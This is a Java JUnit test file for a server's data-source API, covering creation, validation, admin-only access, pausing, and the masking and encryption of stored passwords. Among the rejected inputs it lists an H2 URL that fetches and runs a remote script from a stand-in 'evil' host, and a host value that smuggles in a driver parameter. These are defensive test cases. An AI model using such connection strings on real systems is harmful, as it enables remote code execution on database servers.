package io.sightline.server.datasource;

import static io.sightline.server.datasource.DataSourceFixtures.body;
import static io.sightline.server.datasource.DataSourceFixtures.pg;
import static io.sightline.server.datasource.DataSourceFixtures.unique;
import static org.assertj.core.api.Assertions.assertThat;

import io.sightline.server.support.Api;
import io.sightline.server.support.EmbeddedServerTest;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/** {@code /api/data_sources}: CRUD, validation, admin rights and secrets, through HTTP. */
class DataSourceApiTest extends EmbeddedServerTest {

    @Autowired
    JdbcClient jdbc;

    @Autowired
    CredentialCipher cipher;

    @Test
    void listsTypesWithTheirConfigurationSchema() {
        var response = api().get("/api/data_sources/types");

        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        assertThat(response.json().valueStream().map(t -> t.path("type").asString()))
                .containsExactly("pg", "mysql", "duckdb", "h2", "jdbc");
        JsonNode pg = type(response.json(), "pg");
        assertThat(pg.path("name").asString()).isEqualTo("PostgreSQL");
        JsonNode schema = pg.path("configuration_schema");
        assertThat(schema.path("type").asString()).isEqualTo("object");
        assertThat(schema.path("properties").path("dbname").path("type").asString()).isEqualTo("string");
        assertThat(schema.path("properties").path("port").path("default").asInt()).isEqualTo(5432);
        assertThat(schema.path("properties").path("row_limit").path("default").asInt()).isEqualTo(10000);
        assertThat(schema.path("properties").path("query_timeout").path("default").asInt()).isEqualTo(300);
        assertThat(schema.path("properties").path("max_connections").path("default").asInt()).isEqualTo(5);
        assertThat(schema.path("properties").path("max_connections").path("maximum").asInt()).isEqualTo(50);
        assertThat(strings(schema.path("required"))).containsExactly("dbname");
        assertThat(strings(schema.path("secret"))).containsExactly("password");
        assertThat(strings(schema.path("order"))).startsWith("host", "port", "user", "password", "dbname");
        assertThat(strings(type(response.json(), "mysql").path("configuration_schema").path("secret")))
                .containsExactly("passwd");
    }

    @Test
    void createsListsUpdatesAndDeletesADataSource() {
        String name = "Warehouse " + unique();
        var created = api().post("/api/data_sources", body(name, "pg", pg("test")));

        assertThat(created.status()).as(created.toString()).isEqualTo(200);
        long id = created.json().path("id").asLong();
        assertThat(created.json().path("name").asString()).isEqualTo(name);
        assertThat(created.json().path("type").asString()).isEqualTo("pg");
        assertThat(created.json().path("syntax").asString()).isEqualTo("sql");
        assertThat(created.json().path("paused").asBoolean()).isFalse();
        assertThat(created.json().path("options").path("dbname").asString()).isEqualTo("test");
        assertThat(created.json().path("options").path("port").asInt()).isEqualTo(5432);
        // no group may use a new data source until an admin grants one access
        assertThat(created.json().path("groups").has(String.valueOf(defaultGroupId()))).isFalse();

        JsonNode listed = find(api().get("/api/data_sources").json(), id);
        assertThat(listed.path("name").asString()).isEqualTo(name);
        assertThat(listed.path("view_only").asBoolean()).isFalse();
        assertThat(listed.path("pause_reason").isNull()).isTrue();
        assertThat(listed.has("options")).isFalse();

        var renamed = api().post("/api/data_sources/" + id, Map.of("name", name + " (renamed)"));
        assertThat(renamed.status()).as(renamed.toString()).isEqualTo(200);
        assertThat(api().get("/api/data_sources/" + id).json().path("name").asString()).isEqualTo(name + " (renamed)");
        assertThat(api().get("/api/data_sources/" + id).json().path("options").path("dbname").asString())
                .as("options kept when not sent").isEqualTo("test");

        var deleted = api().delete("/api/data_sources/" + id);
        assertThat(deleted.status()).as(deleted.toString()).isEqualTo(204);
        assertThat(api().get("/api/data_sources/" + id).status()).isEqualTo(404);
        assertThat(find(api().get("/api/data_sources").json(), id)).isNull();
    }

    static Stream<Arguments> invalidRequests() {
        Map<String, Object> noDbname = pg("test");
        noDbname.remove("dbname");
        return Stream.of(
                Arguments.of(body("x", "oracle", pg("test")), "Unknown data source type 'oracle'"),
                Arguments.of(body("x", null, pg("test")), "'type' is required"),
                Arguments.of(body(" ", "pg", pg("test")), "'name' is required"),
                Arguments.of(body("x", "pg", noDbname), "Option 'dbname' is required for PostgreSQL"),
                Arguments.of(body("x", "pg", with(pg("test"), "port", "5432x")), "Option 'port' must be a whole number"),
                Arguments.of(body("x", "pg", with(pg("test"), "port", 54.5)), "Option 'port' must be a whole number"),
                Arguments.of(body("x", "pg", with(pg("test"), "user", 42)), "Option 'user' must be a string"),
                Arguments.of(body("x", "mysql", with(DataSourceFixtures.mariadb("root", "", "test"), "use_ssl", "yes")),
                        "Option 'use_ssl' must be true or false"),
                Arguments.of(body("x", "pg", with(pg("test"), "colour", "blue")), "Unknown option 'colour' for PostgreSQL"),
                Arguments.of(body("x", "pg", with(pg("test"), "max_connections", 51)),
                        "Option 'max_connections' must be between 1 and 50"),
                Arguments.of(body("x", "pg", with(pg("test"), "row_limit", 0)), "Option 'row_limit' must be between 1"),
                Arguments.of(body("x", "pg", with(pg("test"), "host", "db?socketFactory=x")),
                        "Option 'host' must be a host name or IP address"),
                Arguments.of(body("x", "pg", with(pg("test"), "sslmode", "sometimes")), "Option 'sslmode' must be one of"),
                Arguments.of(body("x", "duckdb", Map.of("dbpath", "relative.duckdb")), "Option 'dbpath' must be an absolute"),
                Arguments.of(body("x", "h2", Map.of("url", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'")),
                        "H2 URLs with INIT= are not allowed"),
                Arguments.of(body("x", "jdbc", Map.of("url", "postgresql://db/x")), "must be a JDBC URL starting with 'jdbc:'"));
    }

    @ParameterizedTest
    @MethodSource("invalidRequests")
    void rejectsInvalidDataSourcesNamingTheProblem(Map<String, Object> body, String message) {
        var response = api().post("/api/data_sources", body);

        assertThat(response.status()).as(response.toString()).isEqualTo(400);
        assertThat(response.message()).contains(message);
    }

    @Test
    void rejectsInvalidOptionsOnUpdateToo() {
        long id = create("Update checks " + unique(), "pg", pg("test"));

        var response = api().post("/api/data_sources/" + id, Map.of("options", with(pg("test"), "port", "x")));

        assertThat(response.status()).as(response.toString()).isEqualTo(400);
        assertThat(response.message()).contains("Option 'port' must be a whole number");
    }

    @Test
    void duplicateNameIsAConflict() {
        String name = "Duplicate " + unique();
        create(name, "pg", pg("test"));
        long other = create(name + " 2", "pg", pg("test"));

        var again = api().post("/api/data_sources", body(name, "pg", pg("test")));
        var renamed = api().post("/api/data_sources/" + other, Map.of("name", name));

        assertThat(again.status()).as(again.toString()).isEqualTo(409);
        assertThat(again.message()).contains("'" + name + "' already exists");
        assertThat(renamed.status()).as(renamed.toString()).isEqualTo(409);
    }

    @Test
    void unknownIdIsNotFound() {
        long missing = 987_654_321L;

        assertThat(api().get("/api/data_sources/" + missing).status()).isEqualTo(404);
        assertThat(api().post("/api/data_sources/" + missing, Map.of("name", "x")).status()).isEqualTo(404);
        assertThat(api().delete("/api/data_sources/" + missing).status()).isEqualTo(404);
        assertThat(api().post("/api/data_sources/" + missing + "/test", Map.of()).status()).isEqualTo(404);
        assertThat(api().get("/api/data_sources/" + missing + "/schema").status()).isEqualTo(404);
        assertThat(api().get("/api/data_sources/" + missing).message())
                .isEqualTo("Data source " + missing + " does not exist");
    }

    @Test
    void onlyAdminsManageDataSources() {
        long id = create("Shared " + unique(), "pg", pg("test"));
        Api user = api().withKey(DataSourceFixtures.nonAdminKey(jdbc));

        assertThat(user.post("/api/data_sources", body("Mine " + unique(), "pg", pg("test"))).status()).isEqualTo(403);
        assertThat(user.post("/api/data_sources/" + id, Map.of("name", "taken over")).status()).isEqualTo(403);
        assertThat(user.delete("/api/data_sources/" + id).status()).isEqualTo(403);
        assertThat(user.post("/api/data_sources/" + id + "/test", Map.of()).status()).isEqualTo(403);
        assertThat(user.post("/api/data_sources/" + id + "/pause", Map.of()).status()).isEqualTo(403);
        assertThat(user.get("/api/data_sources/types").status()).isEqualTo(403);
        assertThat(user.post("/api/data_sources", body("x", "pg", pg("test"))).message())
                .isEqualTo("Only admins may manage data sources");
        assertThat(api().get("/api/data_sources/" + id).json().path("name").asString()).startsWith("Shared ");
    }

    /** Clients preview bound SQL in the dialect the server escapes in, told by the server rather than guessed from the type. */
    @Test
    void everyUserIsToldTheDialectParameterValuesAreEscapedIn() {
        long postgres = create("Escaped ANSI " + unique(), "pg", pg("test"));
        long mysql = create("Escaped MySQL " + unique(), "mysql", DataSourceFixtures.mariadb("root", "", "test"));
        api().post("/api/groups/" + defaultGroupId() + "/data_sources", Map.of("data_source_id", mysql));
        Api user = api().withKey(DataSourceFixtures.nonAdminKey(jdbc));

        assertThat(find(api().get("/api/data_sources").json(), postgres).path("sql_dialect").asString()).isEqualTo("ansi");
        assertThat(find(api().get("/api/data_sources").json(), mysql).path("sql_dialect").asString()).isEqualTo("mysql");
        assertThat(api().get("/api/data_sources/" + postgres).json().path("sql_dialect").asString()).isEqualTo("ansi");
        assertThat(find(user.get("/api/data_sources").json(), mysql).path("sql_dialect").asString()).isEqualTo("mysql");
        assertThat(user.get("/api/data_sources/" + mysql).json().path("sql_dialect").asString()).isEqualTo("mysql");
    }

    @Test
    void nonAdminsSeeTheirGroupsDataSourcesWithoutOptions() {
        long id = create("Visible " + unique(), "pg", with(pg("test"), "password", "pw-" + unique()));
        Api user = api().withKey(DataSourceFixtures.nonAdminKey(jdbc));
        assertThat(find(user.get("/api/data_sources").json(), id)).as("not granted yet").isNull();
        api().post("/api/groups/" + defaultGroupId() + "/data_sources", Map.of("data_source_id", id));

        var list = user.get("/api/data_sources");
        var detail = user.get("/api/data_sources/" + id);

        assertThat(list.status()).as(list.toString()).isEqualTo(200);
        assertThat(find(list.json(), id).path("view_only").asBoolean()).isFalse();
        assertThat(detail.status()).as(detail.toString()).isEqualTo(200);
        assertThat(detail.json().has("options")).isFalse();
        assertThat(detail.json().has("groups")).isFalse();
    }

    @Test
    void secretsAreMaskedInEveryResponseAndEncryptedInTheStore() {
        String password = "pw-" + unique();
        String name = "Secret " + unique();
        var created = api().post("/api/data_sources", body(name, "pg", with(pg("test"), "password", password)));
        long id = created.json().path("id").asLong();
        var updated = api().post("/api/data_sources/" + id, Map.of("name", name + "!"));
        var paused = api().post("/api/data_sources/" + id + "/pause", Map.of("reason", "maintenance"));

        for (var response : List.of(created, updated, paused, api().get("/api/data_sources/" + id),
                api().get("/api/data_sources"), api().post("/api/data_sources/" + id + "/test", Map.of()))) {
            assertThat(response.body()).as(response.toString()).doesNotContain(password);
        }
        assertThat(created.json().path("options").path("password").asString()).isEqualTo("--------");

        String stored = storedOptions(id);
        assertThat(stored).doesNotContain(password).contains("\"password\":\"enc:v1:");
        assertThat(stored).contains("\"dbname\":\"test\"");
    }

    @Test
    void maskedSecretSentBackKeepsTheStoredSecret() {
        String password = "pw-" + unique();
        long id = create("Keep " + unique(), "pg", with(pg("test"), "password", password));
        Map<String, Object> shown = Api.JSON.convertValue(api().get("/api/data_sources/" + id).json().path("options"), Map.class);

        var updated = api().post("/api/data_sources/" + id, Map.of("options", with(shown, "dbname", "postgres")));

        assertThat(updated.status()).as(updated.toString()).isEqualTo(200);
        assertThat(updated.json().path("options").path("dbname").asString()).isEqualTo("postgres");
        assertThat(storedPassword(id)).isEqualTo(password);
    }

    @Test
    void newSecretReplacesTheStoredOne() {
        long id = create("Replace " + unique(), "pg", with(pg("test"), "password", "old-" + unique()));
        String replacement = "new-" + unique();

        api().post("/api/data_sources/" + id, Map.of("options", with(pg("test"), "password", replacement)));

        assertThat(storedPassword(id)).isEqualTo(replacement);
    }

    @Test
    void maskedSecretWithNothingStoredIsRejected() {
        var response = api().post("/api/data_sources",
                body("Masked " + unique(), "pg", with(pg("test"), "password", "--------")));

        assertThat(response.status()).as(response.toString()).isEqualTo(400);
        assertThat(response.message()).contains("Option 'password' is sent masked");
    }

    @Test
    void pausesAndResumesADataSource() {
        long id = create("Pausable " + unique(), "pg", pg("test"));

        var paused = api().post("/api/data_sources/" + id + "/pause", Map.of("reason", "warehouse upgrade"));
        JsonNode listed = find(api().get("/api/data_sources").json(), id);
        var resumed = api().delete("/api/data_sources/" + id + "/pause");

        assertThat(paused.json().path("paused").asBoolean()).isTrue();
        assertThat(listed.path("paused").asBoolean()).isTrue();
        assertThat(listed.path("pause_reason").asString()).isEqualTo("warehouse upgrade");
        assertThat(resumed.json().path("paused").asBoolean()).isFalse();
        assertThat(resumed.json().path("pause_reason").isNull()).isTrue();
    }

    private long create(String name, String type, Map<String, Object> options) {
        var response = api().post("/api/data_sources", body(name, type, options));
        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        return response.json().path("id").asLong();
    }

    private String storedOptions(long id) {
        return jdbc.sql("SELECT options FROM data_sources WHERE id = ?").param(id).query(String.class).single();
    }

    private String storedPassword(long id) {
        String encrypted = Api.JSON.readTree(storedOptions(id)).path("password").asString();
        return cipher.decrypt(encrypted);
    }

    private long defaultGroupId() {
        return jdbc.sql("SELECT id FROM groups WHERE name = 'default'").query(Long.class).single();
    }

    static Map<String, Object> with(Map<String, Object> options, String key, Object value) {
        Map<String, Object> copy = new LinkedHashMap<>(options);
        copy.put(key, value);
        return copy;
    }

    private static JsonNode type(JsonNode types, String type) {
        return types.valueStream().filter(t -> t.path("type").asString().equals(type)).findFirst().orElseThrow();
    }

    private static JsonNode find(JsonNode list, long id) {
        return list.valueStream().filter(d -> d.path("id").asLong() == id).findFirst().orElse(null);
    }

    private static List<String> strings(JsonNode array) {
        return array.valueStream().map(JsonNode::asString).toList();
    }
}
